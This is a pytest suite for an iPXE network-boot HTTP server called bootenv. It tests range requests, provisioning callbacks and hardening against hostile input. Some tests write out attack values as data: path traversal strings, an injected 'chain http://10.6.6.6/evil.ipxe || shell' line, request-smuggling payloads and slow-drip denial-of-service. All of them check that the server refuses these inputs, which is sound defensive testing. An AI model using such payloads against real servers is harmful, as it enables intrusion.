"""`bootenv serve` on 127.0.0.1, port 0, in a thread: files, ranges, scripts, callbacks."""

from __future__ import annotations

import http.client
import json
import os
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from bootenv import callback, menu
from bootenv import serve as serve_mod
from bootenv.callback import Callback
from bootenv.errors import UserError
from bootenv.machines import State, assign
from bootenv.serve import BootenvServer, ServeConfig, check_reachable, parse_listen, running
from bootenv.state import Store
from tests.conftest import serving
from tests.serveimage import make_image
from tests.unit.nodelay import connection_options

MAC = "52:54:00:12:34:56"
OTHER = "52:54:00:ab:cd:ef"


def _deep(levels: int) -> object:
    """JSON data nested `levels` lists deep."""
    value: object = 1
    for _ in range(levels):
        value = [value]
    return {"k": value}


@pytest.fixture
def server(tmp_path: Path) -> Iterator[BootenvServer]:
    images, boot = tmp_path / "images", tmp_path / "boot"
    make_image(images)
    boot.mkdir()
    (boot / "vmlinuz").write_bytes(b"K" * 1000)
    (boot / "initramfs.img").write_bytes(b"I" * 3000)
    (tmp_path / "secret").write_text("top secret")
    (images / "catalog.json").write_text(
        json.dumps(
            {
                "default": "mysql",
                "timeout": 3,
                "entries": [
                    {"id": "mysql", "title": "LAMP: OS + MySQL", "image": "lamp", "components": ["mysql"]},
                    {"id": "all", "title": "LAMP: all", "image": "lamp", "components": "all"},
                ],
            }
        )
    )
    config = ServeConfig(images=images, state=tmp_path / "state", port=0, boot=boot)
    with running(config) as srv:
        yield srv


def request(
    srv: BootenvServer,
    method: str,
    path: str,
    *,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, dict(resp.getheaders()), resp.read()
    finally:
        conn.close()


def get(srv: BootenvServer, path: str, **headers: str) -> tuple[int, dict[str, str], bytes]:
    return request(srv, "GET", path, headers={k.replace("_", "-"): v for k, v in headers.items()})


def callback_path(srv: BootenvServer, mac: str) -> str:
    """The path of the callback URL the machine's ramdisk gets now: with its assignment's
    id, once one was made."""
    machine = Store(srv.config.state).get(mac)
    return f"/callback/{mac}" + (f"/{machine.assignment}" if machine and machine.assignment else "")


def post(srv: BootenvServer, mac: str, event: Any, *, path: str | None = None) -> tuple[int, dict[str, Any]]:
    """Post as the run of the machine's current assignment would (or to `path`)."""
    status, _, data = request(
        srv,
        "POST",
        path or callback_path(srv, mac),
        body=json.dumps(event).encode(),
        headers={"Content-Type": "application/json"},
    )
    return status, json.loads(data)


def blob(srv: BootenvServer, name: str = "mysql") -> tuple[str, bytes]:
    manifest = json.loads((srv.config.images / "lamp" / "manifest.json").read_text())
    comp = next(c for c in manifest["components"] if c["name"] == name)
    path = f"/images/lamp/{comp['data']['file']}"
    return path, (srv.config.images / "lamp" / comp["data"]["file"]).read_bytes()


def test_whole_file_and_head(server: BootenvServer) -> None:
    path, data = blob(server)
    status, headers, body = get(server, path)
    assert status == 200 and body == data
    assert headers["Accept-Ranges"] == "bytes" and int(headers["Content-Length"]) == len(data)
    status, headers, body = request(server, "HEAD", path)
    assert status == 200 and body == b"" and int(headers["Content-Length"]) == len(data)


@pytest.mark.parametrize(
    ("spec", "start", "end"),
    [
        ("0-0", 0, 0),
        ("100-199", 100, 199),
        ("1000-", 1000, None),
        ("-500", -500, None),
        ("5-999999999", 5, None),
    ],
)
def test_single_ranges_are_byte_exact(server: BootenvServer, spec: str, start: int, end: int | None) -> None:
    path, data = blob(server)
    expected = data[start : None if end is None else end + 1]
    status, headers, body = get(server, path, Range=f"bytes={spec}")
    assert status == 206
    assert body == expected
    first = start if start >= 0 else len(data) + start
    assert headers["Content-Range"] == f"bytes {first}-{first + len(expected) - 1}/{len(data)}"
    assert int(headers["Content-Length"]) == len(expected)


@pytest.mark.parametrize("spec", ["bytes=999999999-", "bytes=-0"])
def test_unsatisfiable_ranges_get_416(server: BootenvServer, spec: str) -> None:
    path, data = blob(server)
    status, headers, body = get(server, path, Range=spec)
    assert status == 416
    assert headers["Content-Range"] == f"bytes */{len(data)}"
    assert body == b""


@pytest.mark.parametrize("spec", ["bytes=0-1,5-6", "items=0-5", "bytes=9-2", "bytes=x-y"])
def test_other_range_headers_get_the_whole_file(server: BootenvServer, spec: str) -> None:
    path, data = blob(server)
    status, _, body = get(server, path, Range=spec)
    assert status == 200 and body == data


def test_if_range_with_a_stale_validator_sends_the_whole_file(server: BootenvServer) -> None:
    path, data = blob(server)
    _, headers, _ = request(server, "HEAD", path)
    assert get(server, path, Range="bytes=0-9", If_Range=headers["ETag"])[0] == 206
    status, _, body = get(server, path, Range="bytes=0-9", If_Range='"stale"')
    assert status == 200 and body == data


def test_keep_alive_serves_several_ranges_on_one_connection(server: BootenvServer) -> None:
    path, data = blob(server)
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    for start in range(0, len(data), 16384):
        conn.request("GET", path, headers={"Range": f"bytes={start}-{start + 16383}"})
        resp = conn.getresponse()
        assert resp.status == 206
        assert resp.read() == data[start : start + 16384]
    conn.close()


def test_answers_go_out_without_waiting_for_the_clients_ack(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """TCP_NODELAY on every connection, as nginx has it: a layout asks one keep-alive
    connection for chunk after chunk, and with Nagle's algorithm the end of each answer
    waited for the client's delayed ACK (measured: 4-9 ms per 2 MB chunk on loopback,
    against 1.0-1.7 ms)."""
    nodelay = connection_options(monkeypatch)
    path, data = blob(server)
    assert request(server, "GET", path)[2] == data
    assert request(server, "GET", path, headers={"Range": "bytes=10-99"})[2] == data[10:100]
    assert nodelay and all(nodelay), nodelay


@pytest.mark.parametrize(
    "path",
    [
        "/images/../secret",
        "/images/lamp/../../secret",
        "/images/%2e%2e/secret",
        "/images/lamp/%2E%2E/%2e%2e/secret",
        "/boot/..%2fsecret",
        "/images/..%5csecret",
    ],
)
def test_traversal_is_refused(server: BootenvServer, path: str) -> None:
    status, _, body = get(server, path)
    assert status in (403, 404)
    assert b"top secret" not in body


def test_symlinks_out_of_the_images_are_refused(server: BootenvServer) -> None:
    (server.config.images / "lamp" / "escape").symlink_to(server.config.images.parent / "secret")
    status, _, body = get(server, "/images/lamp/escape")
    assert status == 403 and b"top secret" not in body


def test_directories_and_missing_files_are_404(server: BootenvServer) -> None:
    assert get(server, "/images/lamp")[0] == 404
    assert get(server, "/images/lamp/nope")[0] == 404
    assert get(server, "/nowhere")[0] == 404


def test_boot_files_are_served(server: BootenvServer) -> None:
    assert get(server, "/boot/vmlinuz")[2] == b"K" * 1000
    status, _, body = get(server, "/boot/initramfs.img", Range="bytes=2990-")
    assert status == 206 and body == b"I" * 10


def test_entry_script_chains_to_the_machine_script(server: BootenvServer) -> None:
    status, headers, body = get(server, "/ipxe/boot.ipxe")
    assert status == 200 and headers["Content-Type"].startswith("text/plain")
    assert f"chain --autofree {server.base_url}/ipxe/machine?mac=${{netX/mac}}" in body.decode()


def script(srv: BootenvServer, mac: str) -> str:
    status, _, body = get(srv, f"/ipxe/machine?mac={mac}")
    assert status == 200
    text = body.decode()
    assert text.startswith("#!ipxe\n")
    return text


def test_unknown_machine_gets_the_menu(server: BootenvServer) -> None:
    text = script(server, OTHER)
    assert "\nmenu " in text
    assert "item e0 LAMP: OS + MySQL" in text
    assert "choose --default e0 --timeout 3000" in text


def test_assigned_machine_gets_the_ramdisk_without_a_key_press(server: BootenvServer) -> None:
    Store(server.config.state).put(assign(MAC, "lamp", "apache,php", now=time.time(), hostname="web1"))
    text = script(server, MAC.upper().replace(":", "-"))
    base = server.base_url
    assert f"kernel {base}/boot/vmlinuz initrd=initramfs.img " in text
    assert f"bootenv.image={base}/images/lamp bootenv.components=apache,php" in text
    assert f"bootenv.callback={base}/callback/{MAC}" in text
    assert "bootenv.hostname=web1" in text
    assert "\nmenu " not in text and "\nchoose " not in text


def test_assignment_to_a_missing_image_or_component_says_so(server: BootenvServer) -> None:
    store = Store(server.config.state)
    store.put(assign(MAC, "gone", "all", now=0.0))
    assert "image gone is not in the images directory" in script(server, MAC)
    store.put(assign(MAC, "lamp", "redis", now=0.0))
    assert "unknown component 'redis'" in script(server, MAC)


def test_callbacks_move_the_state_and_a_provisioned_machine_boots_locally(server: BootenvServer) -> None:
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    assert post(server, MAC, {"event": "start"}) == (
        200,
        {"state": "provisioning", "changed": True, "invalid": None},
    )
    assert "kernel " in script(server, MAC)  # rebooted mid-install: install again
    for step in ("write-os", "filesystems", "configure", "runtime", "bootloader"):
        # Its disk cannot boot before the agent says so: a reset in these steps reinstalls.
        assert (
            post(server, MAC, {"event": "step", "step": step, "status": "done"})[1]["state"] == "provisioning"
        )
        assert "kernel " in script(server, MAC) and "sanboot" not in script(server, MAC)
    assert (
        post(server, MAC, {"event": "os_written", "data": {"disk": "/dev/vda"}})[1]["state"] == "os_written"
    )
    text = script(server, MAC)
    assert "sanboot --no-describe --drive 0x80" in text and "kernel " not in text
    for event in ("os_booted", "components_laid_out", "done"):
        assert post(server, MAC, {"event": event, "source": "layout"})[1]["state"] == event
    status, answer = post(server, MAC, {"event": "os_written"})
    assert status == 200 and answer["changed"] is False and "final" in answer["invalid"]
    assert "sanboot" in script(server, MAC)
    status, _, body = get(server, f"/api/machines/{MAC}")
    doc = json.loads(body)
    assert doc["machine"]["state"] == "done"
    assert [m["state"] for m in doc["machine"]["timeline"]] == [
        s.value for s in State if s is not State.FAILED
    ]
    assert [e["event"] for e in doc["events"]][-1] == "os_written"
    assert doc["events"][-1]["invalid"]


def test_an_event_sent_again_is_taken_once(server: BootenvServer) -> None:
    """An event that names itself (seq and time) is taken once, however often it comes;
    one that does not (an old sender, curl), or another event with the same number (a
    sender started again), is taken each time."""
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    conflict = {"event": "conflict", "path": "/etc/x", "seq": 7, "time": 1795000000.25}
    assert post(server, MAC, conflict) == (200, {"state": "provisioning", "changed": True, "invalid": None})
    assert post(server, MAC, conflict) == (
        200,
        {"state": "provisioning", "changed": False, "invalid": None, "repeated": True},
    )
    assert "repeated" not in post(server, MAC, {**conflict, "time": 1795000001.5})[1]
    assert "repeated" not in post(server, MAC, {**conflict, "source": "layout"})[1]  # another sender
    assert "repeated" not in post(server, OTHER, conflict)[1]  # another machine
    assert "repeated" not in post(server, MAC, {"event": "conflict", "path": "/etc/y"})[1]
    assert "repeated" not in post(server, MAC, {"event": "conflict", "path": "/etc/y"})[1]
    doc = json.loads(get(server, f"/api/machines/{MAC}")[2])
    assert (doc["machine"]["events"], doc["machine"]["conflicts"]) == (5, 5)
    assert [e.get("seq") for e in doc["events"] if e.get("event") == "conflict"] == [7, 7, 7, None, None]
    assert [(e.get("source"), e.get("time")) for e in doc["events"] if e.get("seq") == 7] == [
        (None, 1795000000.25),
        (None, 1795000001.5),
        ("layout", 1795000000.25),
    ]


def test_a_callback_whose_answer_was_lost_is_counted_once(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A proxy in front of serve (nginx timing out on its upstream) hands the first
    attempt of each event to serve, then answers the sender 502: the sender tries again,
    and serve takes each event once."""
    attempts: list[int] = []

    class Proxy(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            seq = json.loads(body)["seq"]
            status, _, _ = request(server, "POST", self.path, body=body)
            assert status == 200
            lost = seq not in attempts
            attempts.append(seq)
            self.send_response(502 if lost else 200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    monkeypatch.setattr(callback, "RETRY_WAIT", 0.05)
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    with serving(Proxy) as url:
        cb = Callback(url + callback_path(server, MAC), "agent")
        cb.post("start")
        cb.post("conflict", path="/etc/apache2/ports.conf")
        cb.post("conflict", path="/etc/mysql/my.cnf")
        cb.close()
    assert attempts == [1, 1, 2, 2, 3, 3]
    doc = json.loads(get(server, f"/api/machines/{MAC}")[2])
    assert (doc["machine"]["events"], doc["machine"]["conflicts"]) == (3, 2)
    assert [e.get("seq") for e in doc["events"] if "seq" in e] == [1, 2, 3]


def test_a_failed_machine_is_not_reinstalled_in_a_loop(server: BootenvServer) -> None:
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    post(server, MAC, {"event": "error", "message": "no disk big enough"})
    text = script(server, MAC)
    assert "no disk big enough" in text and "kernel " not in text


def test_menu_choice_assigns_the_machine(server: BootenvServer) -> None:
    status, _, body = get(server, f"/ipxe/select/all?mac={OTHER}")
    assert status == 200 and "bootenv.components=all" in body.decode()
    machine = Store(server.config.state).get(OTHER)
    assert machine is not None and machine.entry == "all" and machine.state is State.ASSIGNED
    post(server, OTHER, {"event": "os_written"})
    assert "sanboot" in get(server, f"/ipxe/select/mysql?mac={OTHER}")[2].decode()  # no reinstall


@pytest.mark.parametrize(
    ("path", "body", "status"),
    [
        ("/callback/not-a-mac", b'{"event": "start"}', 400),
        (f"/callback/{MAC}", b"{not json", 400),
        (f"/callback/{MAC}", b'{"event": "reboot"}', 400),
        (f"/callback/{MAC}", b'["start"]', 400),
        ("/elsewhere", b"{}", 404),
    ],
)
def test_bad_callbacks_are_refused(server: BootenvServer, path: str, body: bytes, status: int) -> None:
    got, _, data = request(server, "POST", path, body=body)
    assert got == status
    assert "error" in json.loads(data)
    assert Store(server.config.state).get(MAC) is None


def test_callback_bodies_are_bounded(server: BootenvServer) -> None:
    big = json.dumps({"event": "error", "data": {"x": "y" * 100_000}}).encode()
    assert request(server, "POST", f"/callback/{MAC}", body=big)[0] == 413
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(f"POST /callback/{MAC} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert s.recv(100).startswith(b"HTTP/1.1 411")


def test_a_silent_client_does_not_block_others(server: BootenvServer) -> None:
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as stalled:
        stalled.sendall(b"GET /images/lamp/manifest.json HTTP/1.1\r\n")  # never finishes
        # Answered while the stalled connection is held (get's 10 s socket timeout is a
        # hang guard: the server would hold it for HEAD_TIMEOUT, 60 s).
        assert get(server, "/ipxe/boot.ipxe")[0] == 200
        stalled.setblocking(False)
        with pytest.raises(BlockingIOError):  # still open, with nothing to read
            stalled.recv(1)


def test_machines_api_lists_everyone(server: BootenvServer) -> None:
    post(server, OTHER, {"event": "start"})
    doc = json.loads(get(server, "/api/machines")[2])
    assert [(m["mac"], m["state"]) for m in doc] == [(OTHER, "provisioning")]


@pytest.mark.parametrize(
    ("text", "want"), [("127.0.0.1:8080", ("127.0.0.1", 8080)), ("9000", ("127.0.0.1", 9000))]
)
def test_parse_listen(text: str, want: tuple[str, int]) -> None:
    assert parse_listen(text) == want


@pytest.mark.parametrize("text", ["[::1]:8080", "[::]:8080", "[fe80::1]:80", "[::ffff:127.0.0.1]:80"])
def test_parse_listen_refuses_ipv6(text: str) -> None:
    """The socket is AF_INET: [::1]:8080 passed here, then failed to bind with
    "Address family for hostname not supported"."""
    with pytest.raises(UserError, match=r"serve listens on IPv4 only, e\.g\. 127\.0\.0\.1:8080"):
        parse_listen(text)


def test_a_wildcard_listen_needs_a_public_url(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """0.0.0.0 went into every script (chain http://0.0.0.0:18431/..., bootenv.image=,
    bootenv.callback=), which no client can reach. The refusal comes before any socket is
    bound: a bind here fails the test, so it never listens on every address."""
    from bootenv.cli import main

    def no_bind(sock: socket.socket, address: object) -> None:
        raise AssertionError(f"bound {address}")

    monkeypatch.setattr(socket.socket, "bind", no_bind)
    state = tmp_path / "state"
    argv = ["serve", "--images", str(tmp_path), "--state", str(state), "--listen", "0.0.0.0:18431"]
    assert main(argv) == 2
    captured = capsys.readouterr()
    lines = captured.err.splitlines()
    assert lines == [
        "bootenv: error: --listen 0.0.0.0:18431 is every address, which clients cannot reach: "
        "pass --public-url http://ADDRESS:18431, this server's address for them"
    ], captured.err
    assert "chain" not in captured.out and not state.exists()
    with pytest.raises(UserError, match="pass --public-url"):
        BootenvServer(ServeConfig(tmp_path, state, host="0.0.0.0", port=0))
    check_reachable(ServeConfig(tmp_path, state, host="0.0.0.0", public_url="http://10.20.0.1:8080"))


def test_cli_assign_then_machines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from bootenv.cli import main

    state = str(tmp_path / "state")
    assert main(["assign", "52-54-00-12-34-56", "lamp", "--components", "mysql", "--state", state]) == 0
    assert main(["assign", "nope", "lamp", "--components", "all", "--state", state]) == 2
    capsys.readouterr()
    assert main(["machines", "--state", state]) == 0
    out = capsys.readouterr().out
    assert MAC in out and "assigned" in out and "mysql" in out
    assert main(["machines", "--state", state, "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc[0]["state"] == "assigned" and doc[0]["log"][0]["event"] == "assigned"


def test_nginx_config_names_the_image_and_boot_dirs_and_the_proxy() -> None:
    """What the rendered config says; tests/root/test_nginx.py runs it in a real nginx."""
    from bootenv.nginxconf import NginxSite, render

    conf = render(NginxSite(Path("/srv/images"), "0.0.0.0:80", "127.0.0.1:8080", boot=Path("/srv/boot")))
    assert "alias /srv/images/;" in conf and "alias /srv/boot/;" in conf
    assert "proxy_pass http://127.0.0.1:8080;" in conf
    assert "client_max_body_size 64k;" in conf
    assert conf.count("{") == conf.count("}")


def raw_exchange(srv: BootenvServer, data: bytes, *, wait: float = 10.0) -> bytes:
    """Send `data` on one connection and read until the server closes it."""
    with socket.create_connection(("127.0.0.1", srv.port), timeout=wait) as s:
        s.sendall(data)
        out = b""
        while chunk := s.recv(65536):
            out += chunk
        return out


def test_an_injected_error_message_cannot_add_ipxe_commands(server: BootenvServer) -> None:
    """Anyone may post an event; its message is echoed into the machine's next script."""
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    post(server, MAC, {"event": "error", "message": "disk gone ; chain http://10.6.6.6/evil.ipxe || shell"})
    text = script(server, MAC)
    assert "disk gone" in text
    for line in text.splitlines():
        words = line.split()
        assert "chain" not in words or line.startswith("echo ")
        if line.startswith("echo "):
            assert not {";", "||", "&&"} & set(words)


def test_a_body_answered_unread_is_not_taken_for_a_request(server: BootenvServer) -> None:
    """A POST refused before its body is read closes the connection: the body (here a
    whole request of its own) is never parsed as the next request."""
    inner = f"POST /callback/{OTHER} HTTP/1.1\r\nHost: x\r\nContent-Length: 17\r\n\r\n" + '{"event":"start"}'
    outer = f"POST /callback/not-a-mac HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
    answer = raw_exchange(server, outer.encode())
    assert answer.startswith(b"HTTP/1.1 400") and answer.count(b"HTTP/1.1 ") == 1
    get_with_body = f"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
    answer = raw_exchange(server, get_with_body.encode())
    assert answer.startswith(b"HTTP/1.1 200") and answer.count(b"HTTP/1.1 ") == 1
    assert Store(server.config.state).get(OTHER) is None


def test_request_heads_are_bounded(server: BootenvServer) -> None:
    headers = "".join(f"X-Pad-{i}: {'y' * 8000}\r\n" for i in range(8))  # 64 KB, under http.server's limits
    answer = raw_exchange(server, f"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 431")
    answer = raw_exchange(server, f"GET /{'a' * 40000} HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 414")


def test_a_client_dripping_its_head_is_dropped(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A byte every 0.2 s keeps each read well within the socket timeout, but the whole
    head takes longer than HEAD_TIMEOUT: the server closes the connection, answering
    nothing."""
    monkeypatch.setattr("bootenv.httpconn.HEAD_TIMEOUT", 1.0)
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"GET /ipxe/boot.ipxe HTTP/1.1\r\n")
        s.settimeout(0.2)  # the pace of the drip: a read that times out means still open
        for _ in range(50):  # a bound, so that a server that never drops it fails the test
            try:
                s.sendall(b"X")
                got = s.recv(1)
            except TimeoutError:
                continue
            except (ConnectionResetError, BrokenPipeError):
                got = b""  # closed with our bytes unread: a reset, not an orderly end
            break
        else:
            pytest.fail("the server kept reading a head dripped for 10 s, past its 1 s HEAD_TIMEOUT")
    assert got == b"", f"the server answered instead of closing: {got!r}"


def test_connections_past_the_cap_get_503(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bootenv.httpconn.MAX_CONNECTIONS", 2)
    ended = threading.Semaphore(0)  # released as each connection's thread has given back its slot
    handle = BootenvServer.process_request_thread

    def counted(self: BootenvServer, request: Any, client_address: Any) -> None:
        handle(self, request, client_address)
        ended.release()

    monkeypatch.setattr(BootenvServer, "process_request_thread", counted)
    make_image(tmp_path / "images")
    with running(ServeConfig(images=tmp_path / "images", state=tmp_path / "state", port=0)) as srv:
        held = [socket.create_connection(("127.0.0.1", srv.port), timeout=10) for _ in range(2)]
        try:
            for s in held:  # each holds a slot once its thread runs
                s.sendall(b"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
                assert s.recv(15).startswith(b"HTTP/1.1 200")
            answer = raw_exchange(srv, b"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
            assert answer.startswith(b"HTTP/1.1 503")
        finally:
            for s in held:
                s.close()
        for _ in held:  # the 503 took no slot, and started no thread
            assert ended.acquire(timeout=60), "a closed connection's thread hung"
        assert get(srv, "/ipxe/boot.ipxe")[0] == 200  # the slots came back


def test_if_range_with_a_date_sends_the_whole_file(server: BootenvServer) -> None:
    """A date validates to the second: a file replaced within it would be spliced."""
    path, data = blob(server)
    _, headers, _ = request(server, "HEAD", path)
    status, _, body = get(server, path, Range="bytes=0-9", If_Range=headers["Last-Modified"])
    assert status == 200 and body == data


def test_a_file_that_shrinks_while_sent_ends_the_connection(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bootenv.endpoints import Handler

    path, data = blob(server)
    send = Handler._send_file

    def shrinking(self: Handler, f: Any, size: int, mtime: float, head: bool) -> None:
        os.truncate(f.name, 10)
        send(self, f, size, mtime, head)

    monkeypatch.setattr(Handler, "_send_file", shrinking)
    answer = raw_exchange(server, f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    head, _, body = answer.partition(b"\r\n\r\n")
    assert f"Content-Length: {len(data)}".encode() in head
    assert body == data[:10]  # and then the server closed: raw_exchange returned


@pytest.mark.parametrize(
    ("method", "path", "headers", "body", "status"),
    [
        ("GET", "/images/lamp/manifest.json", {"Range": "bytes=" + "9" * 5000 + "-"}, b"", 416),
        ("GET", "/images/lamp/manifest.json", {"Range": "bytes=0-" + "9" * 5000}, b"", 206),
        ("GET", "/images/lamp/manifest.json", {"Range": "bytes=\u00b2-"}, b"", 200),
        ("POST", f"/callback/{MAC}", {"Content-Length": "9" * 5000}, b"", 411),
        ("POST", f"/callback/{MAC}", {"Content-Length": "\u00b2"}, b"", 411),
        ("POST", f"/callback/{MAC}", {}, b"[" * 30000 + b"]" * 30000, 400),
        ("GET", "/ipxe/select/%24%7Bx%7D?mac=" + MAC, {}, b"", 200),
        ("GET", "http://[x/", {}, b"", 400),  # urlsplit: Invalid IPv6 URL
        ("POST", "http://[x/callback/" + MAC, {}, b"{}", 400),
        ("GET", "/images/" + "a" * 300, {}, b"", 404),  # a name too long for the filesystem
        ("GET", "/images/lamp/loop", {}, b"", 404),  # a symlink loop
        ("POST", f"/callback/{MAC}", {}, json.dumps({"event": "start", "data": _deep(40)}).encode(), 400),
    ],
)
def test_malformed_requests_get_an_answer_not_a_traceback(
    server: BootenvServer,
    caplog: pytest.LogCaptureFixture,
    method: str,
    path: str,
    headers: dict[str, str],
    body: bytes,
    status: int,
) -> None:
    (server.config.images / "lamp" / "loop").symlink_to("loop")
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    answer = raw_exchange(
        server,
        f"{method} {path} HTTP/1.1\r\nHost: x\r\n{head}Connection: close\r\n\r\n".encode() + body,
    )
    assert answer.startswith(f"HTTP/1.1 {status}".encode())
    assert str(server.config.images).encode() not in answer  # no path of the server's
    assert "Traceback" not in caplog.text and "error while serving" not in caplog.text


def test_a_bug_is_a_500_and_a_traceback_in_the_log_not_a_dropped_connection(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*args: Any) -> str:
        raise ValueError("a bug")

    monkeypatch.setattr(menu, "entry_script", broken)
    status, _, body = get(server, "/ipxe/boot.ipxe")
    assert status == 500 and json.loads(body) == {"error": "internal error (the server's log has it)"}
    assert "ValueError: a bug" in caplog.text  # with its traceback, for whoever fixes it


def test_a_damaged_record_is_a_500_with_its_reason(server: BootenvServer) -> None:
    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    (server.config.state / "machines" / f"{MAC.replace(':', '-')}.json").write_text("{torn")
    status, _, body = get(server, f"/ipxe/machine?mac={MAC}")
    assert status == 500 and json.loads(body)["error"].startswith(f"the record of {MAC} is damaged")
    assert str(server.config.state).encode() not in body  # no path of the server's


def test_callbacks_from_unassigned_machines_are_bounded(
    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each unknown MAC that posts becomes a record and a log: past MAX_MACHINES records,
    a callback from a machine nobody assigned is refused (and writes nothing); a known
    machine is still heard."""
    monkeypatch.setattr(serve_mod, "MAX_MACHINES", 2)
    assert post(server, MAC, {"event": "start"})[0] == 200
    assert post(server, "52:54:00:00:00:02", {"event": "start"})[0] == 200
    status, answer = post(server, "52:54:00:00:00:03", {"event": "start"})
    assert status == 403 and "assign it first" in answer["error"]
    assert Store(server.config.state).count() == 2
    assert not (server.config.state / "locks" / "52-54-00-00-00-03.lock").exists()
    assert post(server, MAC, {"event": "os_written"})[0] == 200


def test_a_menu_choice_never_replaces_an_admins_assignment(tmp_path: Path) -> None:
    """The check is repeated under the machine's lock (serve's select reads the catalog
    between its first check and the write)."""
    store = Store(tmp_path)
    from bootenv.serve import _open_to_menu

    menu_choice = assign(MAC, "lamp", "none", now=time.time(), entry="lamp-none")
    store.put(assign(MAC, "lamp", "mysql", now=time.time()))  # the admin, meanwhile
    assert not store.put(menu_choice, only_if=_open_to_menu)
    machine = store.get(MAC)
    assert machine is not None and machine.components == "mysql"
    assert store.put(menu_choice, only_if=lambda m: True)


@pytest.mark.parametrize("where", ["images/lamp", "boot"])
def test_a_fifo_is_404_and_holds_no_thread(server: BootenvServer, where: str) -> None:
    """/tmp/exp/h8/fifo_dos.py: opening a FIFO waited for a writer, for good, so each GET
    of one held a thread (and a connection slot) after its client had gone."""
    os.mkfifo(server.config.images.parent / where / "fifo")
    url = "/images/lamp/fifo" if where.startswith("images") else "/boot/fifo"
    for _ in range(3):  # get's 10 s socket timeout is the hang guard
        assert get(server, url)[0] == 404
    assert get(server, "/boot/vmlinuz")[2] == b"K" * 1000


@pytest.mark.parametrize(
    ("lengths", "status"),
    [(["17", "5"], 400), (["17, 5"], 400), (["5", "17"], 400), (["17", "17"], 200), (["17, 17"], 200)],
)
def test_content_lengths_that_differ_are_a_400(
    server: BootenvServer, lengths: list[str], status: int
) -> None:
    """Which one frames the body? A proxy in front may have used the other: refused,
    and the connection closed. The same length given twice is that length (RFC 9110)."""
    head = "".join(f"Content-Length: {n}\r\n" for n in lengths)
    answer = raw_exchange(
        server,
        f"POST /callback/{OTHER} HTTP/1.1\r\nHost: x\r\n{head}Connection: close\r\n\r\n".encode()
        + b'{"event":"start"}',
    )
    assert answer.startswith(f"HTTP/1.1 {status}".encode()) and answer.count(b"HTTP/1.1 ") == 1
    assert (Store(server.config.state).get(OTHER) is None) is (status == 400)


def test_an_image_that_cannot_be_read_is_named_not_its_path(server: BootenvServer) -> None:
    """The reason is echoed on the machine's console: the image's name, never a path of
    the server's (it said `cannot read /srv/images/afile/manifest.json: Not a directory`)."""
    images = server.config.images
    (images / "afile").write_text("x")
    (images / "piped").mkdir()
    os.mkfifo(images / "piped" / "manifest.json")
    store = Store(server.config.state)
    store.put(assign(MAC, "afile", "all", now=0.0))
    text = script(server, MAC)
    assert "image afile: cannot read its manifest.json: Not a directory" in text
    store.put(assign(MAC, "piped", "all", now=0.0))
    assert "image piped: its manifest.json is not a regular file" in (text := script(server, MAC))
    assert str(images) not in text and "kernel " not in text


def test_a_damaged_record_hides_no_other_machine(
    server: BootenvServer, caplog: pytest.LogCaptureFixture
) -> None:
    """One record that does not read (here without its image) made /api/machines a 500
    naming no machine: the others are listed, and it is one entry saying why."""
    state = server.config.state
    Store(state).put(assign(MAC, "lamp", "mysql", now=time.time()))
    damaged = state / "machines" / "52-54-00-ab-cd-ef.json"
    damaged.write_text(json.dumps({"mac": OTHER, "oops": 1}))
    (state / "machines" / "notes.json").write_text("{}")
    status, _, body = get(server, "/api/machines")
    assert status == 200 and str(state).encode() not in body
    doc = json.loads(body)
    assert [(m["mac"], m.get("state"), m.get("damaged")) for m in doc] == [
        (MAC, "assigned", None),
        (OTHER, None, f"the record of {OTHER} is damaged: it has no 'image'"),
        ("notes.json", None, "notes.json in the state's machines/ is not named for a MAC address"),
    ]
